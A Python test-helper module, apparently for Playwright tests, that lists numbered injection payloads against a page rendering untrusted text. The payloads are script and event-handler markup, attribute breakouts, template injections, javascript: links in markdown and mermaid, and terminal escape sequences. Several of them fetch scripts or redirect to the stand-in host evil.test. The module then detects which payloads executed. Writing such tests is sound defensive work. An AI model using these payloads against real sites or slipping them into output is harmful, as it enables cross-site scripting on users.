"""What a hostile model, tool or user could say, and what would show in a page that one of it was more than text.

Each attack calls ``hit(its number)`` or loads something from ``evil.test``. This file must not know of graphs.
"""

from __future__ import annotations

from playwright.sync_api import Page

__all__ = ["ATTACKS", "PREPARE", "harm", "poke"]

_MARKUP = (
    "<script>hit(NUM)</script>",
    "<script src=http://evil.test/NUM.js></script>",
    "<img src=x onerror=hit(NUM)>",
    '<img src="http://evil.test/NUM.png">',
    "<svg onload=hit(NUM)><script>hit(NUM)</script><animate onbegin=hit(NUM) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:hit(NUM)"><text y=20>click</text></a></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit(NUM)</script>'></iframe></foreignObject></svg>",
    "<iframe srcdoc='<script>parent.hit(NUM)</script>'></iframe>",
    '<iframe src="javascript:parent.hit(NUM)"></iframe>',
    "<style>@import 'http://evil.test/NUM.css'; * {background: url(http://evil.test/NUM)}</style>",
    "<link rel=stylesheet href=http://evil.test/NUM.css>",
    '<meta http-equiv=refresh content="0;url=http://evil.test/NUM">',
    "<base href=http://evil.test/NUM/>",
    "<object data=http://evil.test/NUM></object><embed src=http://evil.test/NUM>",
    "<details open ontoggle=hit(NUM)><summary>x</summary></details>",
    "<input autofocus onfocus=hit(NUM)><video><source onerror=hit(NUM)></video>",
    "<form action=http://evil.test/NUM><button autofocus onfocus=hit(NUM)>Submit</button></form>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit(NUM)&gt;'>",
)
_ENDS = tuple(
    f"{end}<img src=x onerror=hit(NUM)>"
    for end in ('">', "'>", "-->", "]]>", "</text></svg>", "</title>", "</style>", "</script>", "</textarea>", "</pre>")
)
_QUOTES = (
    '" onmouseover="hit(NUM)" autofocus onfocus="hit(NUM)" x="',
    "' onmouseover='hit(NUM)' autofocus onfocus='hit(NUM)' x='",
    "&lt;img src=x onerror=hit(NUM)&gt; &#60;script&#62;hit(NUM)&#60;/script&#62;",
    "\\u003cimg src=x onerror=hit(NUM)\\u003e",
    "${hit(NUM)} `${hit(NUM)}` {{hit(NUM)}} {{constructor.constructor('hit(NUM)')()}}",
    "'+hit(NUM)+' \\');hit(NUM);// */hit(NUM)/*",
    "javascript:hit(NUM)",
)
_MARKDOWN = (
    "[click](javascript:hit(NUM)) ![x](http://evil.test/NUM.png) <javascript:hit(NUM)>",
    "# heading\n\n```mermaid\nclick a call hit(NUM)\n```\n\n$$\\href{javascript:hit(NUM)}{x}$$",
    '%%{init: {"securityLevel": "loose"}}%%\nclick a "javascript:hit(NUM)"',
)
_TERMINAL = (
    "\x1b]8;;http://evil.test/NUM\x07link\x1b]8;;\x07 \x1b[31;5mred\x1b[0m \x1b[2J\x1b[1;1H\x1b]0;title\x07",
    "\x9b31m\x07\x08\x08\x7f\x00 \r overwritten",
    "\u202egpj.exe\u202c \u200b\ufeff zero\u00adwidth \u2028 line",
)
ATTACKS: tuple[str, ...] = tuple(
    attack.replace("NUM", str(number))
    for number, attack in enumerate((*_MARKUP, *_ENDS, *_QUOTES, *_MARKDOWN, *_TERMINAL))
)
"""Numbered, so that one that works can be told."""

PREPARE = """window.hits = [];
window.hit = (number) => { window.hits.push(String(number)); };
for (const name of ["alert", "confirm", "prompt", "open", "print"]) window[name] = () => window.hits.push(name);"""
"""For a page, before its own scripts."""

_FOUND = """(roots) => [...document.querySelectorAll(roots)].flatMap((root) => [root, ...root.querySelectorAll("*")])
  .flatMap((one) => {
    const bad = [], tag = one.localName;
    const kept = tag === "img" && /^(data:|blob:)/.test(one.getAttribute("src") ?? "");
    if (/^(script|iframe|frame|object|embed|base|meta|link|foreignobject|animate|math|video|img)$/i.test(tag) && !kept)
      bad.push(tag);
    for (const { name, value } of one.attributes) {
      if (/^on/i.test(name)) bad.push(`${tag} ${name}`);
      if (/^\\s*javascript:/i.test(value) && /href|src|action|data/i.test(name)) bad.push(`${tag} ${name}=${value}`);
    }
    return bad;
  })"""


def poke(page: Page, root: str) -> None:
    """Do with everything in some elements what would make a handler of it run."""
    page.evaluate(
        """(root) => {
          for (const one of document.querySelectorAll(`${root} *`)) {
            if (one instanceof HTMLDetailsElement) one.open = true;
            for (const kind of ["pointerover", "mouseover", "mouseenter", "focus", "toggle", "load", "begin"])
              one.dispatchEvent(new Event(kind, { bubbles: false }));
          }
        }""",
        root,
    )


def harm(page: Page, roots: str) -> list[str]:
    """What an attack did, or made that could do something: in the page, or in some of its elements."""
    found: list[str] = page.evaluate(_FOUND, roots)
    hits: list[str] = page.evaluate("() => window.hits")
    return [*(f"ran: {hit}" for hit in hits), *(f"made: {one}" for one in found)]
